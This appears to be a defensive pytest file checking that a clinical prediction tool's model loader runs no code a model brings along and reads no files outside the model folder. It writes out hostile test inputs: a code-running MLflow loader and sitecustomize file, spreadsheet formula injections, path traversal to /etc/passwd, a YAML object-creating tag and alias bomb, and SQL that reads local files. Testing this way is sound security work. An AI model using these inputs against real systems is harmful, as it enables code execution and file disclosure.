"""What `docs/models-from-strangers.md` promises: a model runs nothing and reads nothing else."""

from __future__ import annotations

import hashlib
import json
import os
import shutil
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

import pytest

from predictor.cohort import read_table
from predictor.errors import ModelError
from predictor.saved import SavedModel, read_model, score, write_model
from predictor.saved.files import digest

STORED = Path(__file__).parent / "stored" / "format_2"
PATIENTS = STORED / "new_patients.csv"
LOADER = """
from pathlib import Path
Path({mark!r}).touch()
def _load_pyfunc(path): raise SystemExit(7)
"""


def signed(folder: Path, name: str, content: bytes) -> None:
    """Write a file of a model, with hashes that agree: whoever changes a model can do that too."""
    (folder / name).write_bytes(content)
    description = json.loads((folder / "model.json").read_text())
    description["files"][name] = hashlib.sha256(content).hexdigest()
    description["digest"] = digest(description)
    (folder / "model.json").write_text(json.dumps(description))


@pytest.fixture
def stranger(tmp_path: Path) -> Path:
    """A model whose other files are made to run something."""
    folder = Path(shutil.copytree(STORED / "ridge", tmp_path / "stranger"))
    code = folder / "code"
    code.mkdir()
    (code / "harm.py").write_text(LOADER.format(mark=str(tmp_path / "harmed")))
    flavours = json.loads((folder / "MLmodel").read_text())
    flavours["flavors"]["python_function"] |= {"loader_module": "harm", "code": "code"}
    signed(folder, "MLmodel", json.dumps(flavours).encode())
    signed(folder, "requirements.txt", f"--find-links {tmp_path}\nharm==6.6.6\n".encode())
    signed(folder, "python_env.yaml", b"dependencies: [harm]\n")
    (folder / "conda.yaml").write_text("dependencies: [harm]\n")
    (folder / "sitecustomize.py").write_text((code / "harm.py").read_text())
    return folder


def of_mlflow(folder: Path) -> subprocess.CompletedProcess[str]:
    """What happens behind MLflow's door."""
    order = f"import mlflow; mlflow.pyfunc.load_model({str(folder)!r})"
    return subprocess.run(
        [sys.executable, "-c", order], capture_output=True, check=False, text=True
    )


def test_nothing_that_a_model_brings_along_is_run(stranger: Path, tmp_path: Path) -> None:
    kept = read_model(stranger)
    expected = score(read_model(STORED / "ridge"), read_table(PATIENTS))
    assert score(kept, read_table(PATIENTS)).probability.tolist() == pytest.approx(
        expected.probability.tolist(), nan_ok=True
    )
    assert not (tmp_path / "harmed").exists()


def test_mlflow_runs_what_a_model_names_unless_the_model_was_written_anew(
    stranger: Path, tmp_path: Path
) -> None:
    write_model(read_model(stranger), tmp_path / "ours", card="")
    told = "".join(
        path.read_text() for path in (tmp_path / "ours").iterdir() if path.suffix != ".json"
    )
    assert "harm" not in told
    done = of_mlflow(tmp_path / "ours")
    assert done.returncode == 0, done.stderr
    assert not (tmp_path / "harmed").exists()
    # the warning of the page is true: this is what nobody should do with a stranger's folder
    assert of_mlflow(stranger).returncode == 7
    assert (tmp_path / "harmed").exists()


def refusal(folder: Path) -> str:
    with pytest.raises(ModelError) as caught:
        score(read_model(folder), read_table(PATIENTS))
    return str(caught.value)


FORMULAS = ['=HYPERLINK("http://example.org/?" & A2)', "@SUM(A1)", "+A1", "-A1", "\t=A1"]


@pytest.mark.parametrize("name", FORMULAS)
def test_nothing_in_a_file_of_scores_is_a_formula_of_the_models(stranger: Path, name: str) -> None:
    study = (stranger / "study.yaml").read_text()
    query = (stranger / "covariates.sql").read_text()
    outcome = read_model(stranger).study.outcome.name
    assert f"name: {outcome}" in study
    signed(stranger, "study.yaml", study.replace(f"name: {outcome}", f"name: {json.dumps(name)}")
           .encode())  # fmt: skip
    assert "begins as a formula" in refusal(stranger)
    signed(stranger, "study.yaml", study.encode())
    quoted = name.replace('"', '""')
    signed(
        stranger,
        "covariates.sql",
        query.replace(" FROM known", f', 1 AS "{quoted}" FROM known').encode(),
    )
    assert "begins as a formula" in refusal(stranger)


def linked(folder: Path) -> None:
    (folder / "covariates.sql").unlink()
    (folder / "covariates.sql").symlink_to(folder / "card.md")


def device(folder: Path) -> None:
    (folder / "covariates.sql").unlink()
    (folder / "covariates.sql").symlink_to("/dev/zero")


def pipe(folder: Path) -> None:
    (folder / "covariates.sql").unlink()
    os.mkfifo(folder / "covariates.sql")


def nested(folder: Path) -> None:
    (folder / "covariates.sql").unlink()
    (folder / "covariates.sql").mkdir()


def sparse(folder: Path) -> None:
    with (folder / "study.yaml").open("ab") as file:
        file.truncate(1 << 40)


def elsewhere(name: str) -> Callable[[Path], None]:
    def change(folder: Path) -> None:
        description = json.loads((folder / "model.json").read_text())
        description["files"][name] = hashlib.sha256(b"").hexdigest()
        description["digest"] = digest(description)
        (folder / "model.json").write_text(json.dumps(description))

    return change


def twice(folder: Path) -> None:
    text = (folder / "model.json").read_text().rstrip()
    (folder / "model.json").write_text(text[:-1] + ', "digest": "0"}')


PLACES = {
    "a link": linked,
    "a device": device,
    "a pipe": pipe,
    "a folder": nested,
    "a terabyte": sparse,
    "the folder above": elsewhere("../study.yaml"),
    "an absolute path": elsewhere("/etc/passwd"),
    "a path with a null": elsewhere("study.yaml\x00"),
    "a key twice": twice,
}


@pytest.mark.parametrize("place", PLACES)
def test_only_plain_files_of_the_folder_are_read(stranger: Path, place: str) -> None:
    PLACES[place](stranger)
    assert "root:" not in refusal(stranger)


def bomb() -> str:
    return "a: &a [x, x, x, x, x, x, x, x, x]\n" + "".join(
        f"{name}: &{name} [{', '.join([f'*{before}'] * 9)}]\n"
        for before, name in zip("abcdefgh", "bcdefghi", strict=True)
    )


STUDIES = {
    "a tag that makes an object": lambda text: text + "seed: !!python/object/apply:os.getpid []\n",
    "aliases that unfold": lambda text: text + bomb(),
    "an alias of itself": lambda text: text + "title: &t [*t]\n",
    "a depth without end": lambda text: text + "title: " + "[" * 5000 + "]" * 5000 + "\n",
    "another study to extend": lambda text: text + "extends: /etc/passwd\n",
}


@pytest.mark.parametrize("what", STUDIES)
def test_a_study_of_a_model_makes_no_object_and_reads_no_file(stranger: Path, what: str) -> None:
    change = STUDIES[what]
    signed(stranger, "study.yaml", change((stranger / "study.yaml").read_text()).encode())
    assert "root:" not in refusal(stranger)


def test_a_query_of_a_model_reads_no_file(stranger: Path, tmp_path: Path) -> None:
    (tmp_path / "secret.csv").write_text("x\n1\n")
    sql = (stranger / "covariates.sql").read_text()
    for source in (f"'{tmp_path}/secret.csv'", f"read_csv('{tmp_path}/secret.csv')", "glob('/*')"):
        query = sql.replace("FROM cohort", f", (SELECT count(*) FROM {source}) AS n FROM cohort")
        signed(stranger, "covariates.sql", query.encode())
        assert "the model's study cannot be used" in refusal(stranger)


def test_a_model_written_anew_scores_as_it_did(stranger: Path, tmp_path: Path) -> None:
    before = read_model(stranger)
    write_model(before, tmp_path / "ours", card="")
    after: SavedModel = read_model(tmp_path / "ours")
    table = read_table(PATIENTS)
    assert score(after, table).to_table().equals(score(before, table).to_table())
